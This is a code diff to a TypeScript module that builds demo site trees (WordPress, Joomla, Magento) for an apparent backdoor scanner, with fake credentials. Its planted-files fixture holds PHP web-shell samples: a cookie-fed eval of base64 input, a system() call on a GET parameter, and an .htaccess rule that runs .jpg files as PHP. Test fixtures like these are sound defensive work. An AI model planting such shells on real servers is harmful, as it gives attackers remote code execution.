@@ -16,8 +16,8 @@ export function cleanDemoFiles(): DemoFiles {
       ]),
     ),
     ...prefixed('public_html/blog', wordpress('5.8.1', [['akismet', 'Akismet Anti-spam', '4.1.12']])),
-    ...prefixed('club.test', joomla(3, 10, 11)),
-    ...prefixed('shop.test', drupal('9.5.3')),
+    ...prefixed('club.test', joomla(5, 1, 2)),
+    ...prefixed('shop.test', magento('2.4.6-p1')),
     ...prefixed('old/website-2018', wordpress('4.9.8', [])),
     ['mail/example.test/info/cur/.keep', ''],
     ['etc/example.test/passwd', 'info:x:1000:1000::/home/demo/mail/example.test/info:/home/demo\n'],
@@ -34,8 +34,8 @@ export function plantedDemoFiles(): DemoFiles {
     ['public_html/blog/wp-content/mu-plugins/loader.php', `${stop}${'ev'}al(base64_decode($_COOKIE['s']));\n`],
     ['club.test/images/banner.php', `${stop}${'sys'}tem($_GET['c']);\n`],
     [
-      'shop.test/sites/default/files/.htaccess',
-      'AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file /home/demo/shop.test/sites/default/files/logo.jpg\n',
+      'shop.test/pub/media/.htaccess',
+      'AddType application/x-httpd-php .jpg\nphp_value auto_prepend_file /home/demo/shop.test/pub/media/logo.jpg\n',
     ],
   ]);
 }
@@ -63,7 +63,7 @@ export function panelDemoFiles(): DemoFiles {
   ]);
 }
 
-/** As much of WordPress as says which version it is and what is installed in it. */
+/** As much of WordPress as says which version it is and what is installed in it: nothing of the vendor's own is copied. */
 function wordpress(
   version: string,
   plugins: readonly (readonly [slug: string, name: string, version: string])[],
@@ -73,7 +73,7 @@ function wordpress(
       'wp-includes/version.php',
       `<?php\n$wp_version = '${version}';\n$wp_db_version = 56657;\n$required_php_version = '7.0.0';\n`,
     ],
-    ['wp-load.php', '<?php // made up by lastgood demo\n'],
+    ['wp-admin/.keep', ''],
     [
       'wp-config.php',
       "<?php\ndefine( 'DB_NAME', 'demo_wp' );\ndefine( 'DB_USER', 'demo_wp' );\ndefine( 'DB_PASSWORD', 'not-a-real-one' );\n$table_prefix = 'wp_';\n",
@@ -102,15 +102,18 @@ function joomla(major: number, minor: number, patch: number): DemoFiles {
   ]);
 }
 
-function drupal(version: string): DemoFiles {
+function magento(version: string): DemoFiles {
+  const edition = { name: 'magento/product-community-edition', version };
+  const framework = { name: 'magento/framework', version: '103.0.6' };
   return new Map([
-    ['core/lib/Drupal.php', `<?php\nclass Drupal {\n  const VERSION = '${version}';\n}\n`],
-    ['core/core.services.yml', 'services: {}\n'],
     [
-      'sites/default/settings.php',
-      "<?php\n$databases['default']['default'] = ['database' => 'demo_drupal', 'username' => 'demo_drupal'];\n",
+      'composer.json',
+      `${JSON.stringify({ name: 'magento/project-community-edition', require: { [edition.name]: version } }, null, 2)}\n`,
     ],
-    ['modules/contrib/webform/webform.info.yml', "name: Webform\ntype: module\nversion: '6.1.3'\nproject: 'webform'\n"],
+    ['composer.lock', `${JSON.stringify({ packages: [framework, edition] }, null, 2)}\n`],
+    ['bin/magento', '#!/usr/bin/env php\n'],
+    ['app/etc/env.php', "<?php\nreturn ['db' => ['table_prefix' => '']];\n"],
+    ['pub/media/catalog/readme.txt', 'pictures of the products\n'],
   ]);
 }
 
